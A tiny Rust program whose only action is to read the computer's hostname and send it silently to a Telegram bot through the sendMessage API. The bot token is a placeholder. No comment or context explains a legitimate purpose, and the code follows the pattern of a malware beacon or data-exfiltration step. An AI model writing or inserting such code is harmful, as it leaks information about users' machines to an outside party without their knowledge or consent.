fn main() {
    let h = hostname::get().unwrap();
    let _ = reqwest::blocking::get(format!("https://api.telegram.org/bot1234567890:AAExampleExampleExampleExampleExampl/sendMessage?chat_id=1&text={:?}", h));
}
